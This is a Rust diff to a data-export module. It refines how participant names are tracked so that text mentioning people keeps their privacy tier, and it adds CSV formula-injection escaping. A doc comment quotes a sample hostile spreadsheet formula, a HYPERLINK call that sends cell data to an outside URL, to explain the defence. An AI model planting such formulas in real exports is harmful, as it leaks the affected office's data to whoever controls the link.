@@ -65,8 +65,7 @@ fn cell(ty: FieldType, v: Option<&Json>) -> Cell {
 impl Store {
     fn tables(&self, tier: Tier, report: &mut TableReport) -> Result<Vec<Table>> {
         let sessions = self.sessions_by_id()?;
-        let mentions = self.mentions()?;
-        let nobody = Mentions::default();
+        let names = self.mentions()?;
         let mut tables = vec![];
         for entity in Entity::ALL {
             let fields = entity.fields();
@@ -75,9 +74,9 @@ impl Store {
             let mut rows = vec![];
             for r in &records {
                 let session_id = if entity == Entity::Session { r.get("id") } else { r.get("session_id") };
-                let session_id = session_id.and_then(Json::as_str).unwrap_or_default();
-                let session = sessions.get(session_id).filter(|_| entity != Entity::Session);
-                let named = mentions.get(session_id).unwrap_or(&nobody);
+                let session_id = session_id.and_then(Json::as_str).filter(|s| !s.is_empty());
+                let session = session_id.and_then(|s| sessions.get(s)).filter(|_| entity != Entity::Session);
+                let named = names.of(session_id);
                 let facts = Facts::of(r, session);
                 if record_tier(entity, &facts) > tier {
                     report.withheld_rows += 1;
@@ -132,16 +131,18 @@ impl Store {
     }
 
     /// For each session id, the names of its participants that are not share-back, deleted ones
-    /// included (deleting someone must not release the notes that name them). One query over
-    /// the participants (an export of a large store reads it once, not record by record).
-    pub fn mentions(&self) -> Result<HashMap<String, Mentions>> {
+    /// included (deleting someone must not release the notes that name them); and everyone's,
+    /// for what is recorded outside sessions (movements, actors, check-ins…). One query over the
+    /// participants (an export of a large store reads it once, not record by record).
+    pub fn mentions(&self) -> Result<Names> {
         let mut stmt = self.conn.prepare(
             "SELECT p.session_id, p.name, p.tier, ps.tier, p.at_risk, p.consent_named FROM participant p
              LEFT JOIN session ps ON ps.id = p.session_id AND ps.deleted = 0
              WHERE p.session_id IS NOT NULL ORDER BY p.session_id",
         )?;
         let mut rows = stmt.query([])?;
-        let mut out = HashMap::new();
+        let mut by_session = HashMap::new();
+        let mut all = vec![];
         let mut current: Option<SessionPeople> = None;
         let tier = |v: Option<String>| v.as_deref().and_then(Tier::parse);
         while let Some(r) = rows.next()? {
@@ -149,16 +150,39 @@ impl Store {
             let facts =
                 Facts { item: tier(r.get(2)?), parent: tier(r.get(3)?), at_risk: r.get(4)?, consent_named: r.get(5)? };
             let person = (r.get::<_, String>(1)?, facts);
+            all.push(person.clone());
             match &mut current {
                 Some((id, people)) if *id == session => people.push(person),
                 _ => {
-                    out.extend(current.take().and_then(mentions_of));
+                    by_session.extend(current.take().and_then(mentions_of));
                     current = Some((session, vec![person]));
                 }
             }
         }
-        out.extend(current.and_then(mentions_of));
-        Ok(out)
+        by_session.extend(current.and_then(mentions_of));
+        let everyone = Mentions::new(all.iter().map(|(n, f)| (n.as_str(), *f)));
+        Ok(Names { by_session, everyone })
+    }
+}
+
+/// The names free text may mention, to give it their tier: per session for what is recorded in
+/// one, everyone's for the rest.
+#[derive(Debug, Default)]
+pub struct Names {
+    /// By session id (hyphenated).
+    pub by_session: HashMap<String, Mentions>,
+    /// Every participant of every session.
+    pub everyone: Mentions,
+}
+
+impl Names {
+    /// The names that text in a record of `session` (none: outside any session) may mention.
+    pub fn of(&self, session: Option<&str>) -> &Mentions {
+        static NOBODY: std::sync::OnceLock<Mentions> = std::sync::OnceLock::new();
+        match session {
+            Some(s) => self.by_session.get(s).unwrap_or_else(|| NOBODY.get_or_init(Mentions::default)),
+            None => &self.everyone,
+        }
     }
 }
 
@@ -183,7 +207,7 @@ fn csv_bytes(t: &Table) -> Result<Vec<u8>> {
     w.write_record(&t.columns).map_err(fail)?;
     for row in &t.rows {
         let cells = row.iter().map(|c| match c {
-            Cell::Text(s) => s.clone(),
+            Cell::Text(s) => neutralised(s),
             Cell::Number(n) => n.to_string(),
             Cell::Bool(b) => b.to_string(),
             Cell::Empty => String::new(),
@@ -191,6 +215,18 @@ fn csv_bytes(t: &Table) -> Result<Vec<u8>> {
         w.write_record(cells).map_err(fail)?;
     }
     w.into_inner().map_err(|e| Error::Io(std::io::Error::other(e.to_string())))
+}
+
+/// A text cell a spreadsheet will not run: text starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return is a formula (or becomes one) in Excel, LibreOffice and Google Sheets, so it
+/// gets a leading `'`, as OWASP's "CSV injection" advice says. A session title like
+/// `=HYPERLINK("http://…"&A1,"open")` would otherwise send the office's data to whoever typed it.
+/// XLSX cells are written as typed strings and need nothing.
+fn neutralised(s: &str) -> String {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_owned(),
+    }
 }
 
 fn xlsx_bytes(tables: &[Table]) -> Result<Vec<u8>> {
